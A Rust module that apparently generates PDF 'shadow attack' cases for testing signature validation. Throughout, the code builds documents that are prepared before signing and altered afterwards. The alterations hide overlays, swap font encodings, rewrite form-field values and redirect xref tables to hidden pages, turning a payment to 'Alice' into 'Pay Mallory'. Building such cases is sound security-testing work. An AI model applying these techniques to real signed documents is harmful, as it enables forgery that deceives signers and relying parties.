//! Shadow attacks: the document is prepared before somebody signs it, and turned over afterwards.

use super::update::{append, append_table, last, object_text, stream};
use crate::pdfs;

/// A prepared document and what is done to it once it is signed.
pub struct Shadow {
    /// What it does, for a person.
    pub name: &'static str,
    /// The document that the victim signs.
    pub prepared: Vec<u8>,
    /// Turns the signed document over.
    pub turn: fn(&[u8]) -> Vec<u8>,
}

/// Every form: hide, replace, hide and replace.
pub fn shadows() -> Vec<Shadow> {
    let form = |name, prepared: Vec<u8>, turn| Shadow { name, prepared, turn };
    vec![
        form("hide: the overlay is freed", with_overlay(), |signed| {
            append_table(signed, &[(OVERLAY, 0)], 1)
        }),
        form("hide: the overlay is emptied", with_overlay(), |signed| {
            append(
                signed,
                &[(OVERLAY, stream("/Type /XObject /Subtype /Form /BBox [0 0 0 0]", ""))],
            )
        }),
        form("hide: the page no longer draws the overlay", with_overlay(), |signed| {
            append(signed, &[(5, stream("", HIDDEN_TEXT))])
        }),
        form("replace: the font has another encoding", pdfs::simple(1), |signed| {
            let font = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding << /Type /Encoding /Differences \
                        [49 /nine] >> >>";
            append(signed, &[(3, font.to_owned())])
        }),
        form("replace: the font is another program", pdfs::simple(1), |signed| {
            let font = "<< /Type /Font /Subtype /Type1 /BaseFont /Symbol >>";
            append(signed, &[(3, font.to_owned())])
        }),
        form("replace: a form field shows something else", with_field(), |signed| {
            append(signed, &[(FIELD_APPEARANCE, appearance("Pay Mallory"))])
        }),
        form(
            "replace: a form field is refilled behind its appearance",
            with_field(),
            |signed| {
                let field = object_text(signed, FIELD).replace("(Alice)", "(Mallory)");
                append(signed, &[(FIELD, field)])
            },
        ),
        form(
            "hide and replace: hidden content through a new table",
            with_hidden_content(),
            |signed| {
                let hidden = last(signed, HIDDEN_OBJECT.as_bytes()) - b"5 0 obj\n".len();
                append_table(signed, &[(5, hidden)], 1)
            },
        ),
        form(
            "hide and replace: a hidden catalog through a new trailer",
            with_hidden_catalog(),
            |signed| append_table(signed, &[], HIDDEN_CATALOG),
        ),
        form(
            "hide and replace: a hidden page through the page tree",
            with_hidden_catalog(),
            |signed| {
                let pages = format!("<< /Type /Pages /Kids [{} 0 R] /Count 1 >>", HIDDEN_CATALOG + 2);
                append(signed, &[(2, pages)])
            },
        ),
    ]
}

const OVERLAY: u32 = 6;
const FIELD: u32 = 6;
const FIELD_APPEARANCE: u32 = 7;
const HIDDEN_CATALOG: u32 = 6;
const HIDDEN_TEXT: &str = "BT /F1 24 Tf 72 760 Td (Pay Mallory) Tj ET";
const HIDDEN_OBJECT: &str = "<< /Hidden true";

fn page(entries: &str) -> String {
    format!(
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /Resources << /Font << /F1 3 0 R >> {entries}"
    )
}

/// Text, and a white form over it with harmless text.
fn with_overlay() -> Vec<u8> {
    let overlay = "1 g 0 0 500 60 re f 0 g BT /F1 24 Tf 0 20 Td (Invitation) Tj ET";
    let form = stream(
        "/Type /XObject /Subtype /Form /BBox [0 0 500 60] /Resources << /Font << /F1 3 0 R >> >>",
        overlay,
    );
    let content = format!("{HIDDEN_TEXT} q 1 0 0 1 60 740 cm /X Do Q");
    base("", &page("/XObject << /X 6 0 R >> >> >>"), &content, &[form])
}

/// A text field filled with a name.
fn with_field() -> Vec<u8> {
    let field = "<< /Type /Annot /Subtype /Widget /FT /Tx /T (payee) /V (Alice) /Rect [60 700 300 730] /P 4 0 R /F 4 \
                 /DA (/F1 12 Tf) /AP << /N 7 0 R >> >>";
    base(
        "/AcroForm << /Fields [6 0 R] /DA (/F1 12 Tf) /DR << /Font << /F1 3 0 R >> >> >>",
        &page(">> /Annots [6 0 R] >>"),
        "BT /F1 24 Tf 72 760 Td (Pay 100 to) Tj ET",
        &[field.to_owned(), appearance("Alice")],
    )
}

fn appearance(text: &str) -> String {
    stream(
        "/Type /XObject /Subtype /Form /BBox [0 0 240 30] /Resources << /Font << /F1 3 0 R >> >>",
        &format!("BT /F1 12 Tf 4 8 Td ({text}) Tj ET"),
    )
}

/// A second object 5 that no table names.
fn with_hidden_content() -> Vec<u8> {
    let hidden = format!(
        "5 0 obj\n{HIDDEN_OBJECT} /Length {} >>\nstream\n{HIDDEN_TEXT}\nendstream\nendobj\n",
        HIDDEN_TEXT.len()
    );
    let plain = pdfs::simple(1);
    let table = last(&plain, b"xref\n0 ");
    let shifted = table + hidden.len();
    let text = [&plain[..table], hidden.as_bytes(), &plain[table..]].concat();
    let place = last(&text, b"startxref\n") + b"startxref\n".len();
    [&text[..place], format!("{shifted}\n%%EOF\n").as_bytes()].concat()
}

/// A whole second document inside.
fn with_hidden_catalog() -> Vec<u8> {
    let hidden = [
        "<< /Type /Catalog /Pages 7 0 R >>".to_owned(),
        "<< /Type /Pages /Kids [8 0 R] /Count 1 >>".to_owned(),
        "<< /Type /Page /Parent 7 0 R /MediaBox [0 0 595 842] /Contents 9 0 R /Resources << /Font << /F1 3 0 R >> >> >>"
            .to_owned(),
        stream("", HIDDEN_TEXT),
    ];
    base("", &page(">> >>"), "BT /F1 24 Tf 72 760 Td (Invitation) Tj ET", &hidden)
}

fn base(catalog: &str, page: &str, content: &str, more: &[String]) -> Vec<u8> {
    let mut objects = vec![
        format!("<< /Type /Catalog /Pages 2 0 R {catalog} >>"),
        "<< /Type /Pages /Kids [4 0 R] /Count 1 >>".to_owned(),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_owned(),
        page.to_owned(),
        stream("", content),
    ];
    objects.extend_from_slice(more);
    pdfs::of_objects(&objects)
}
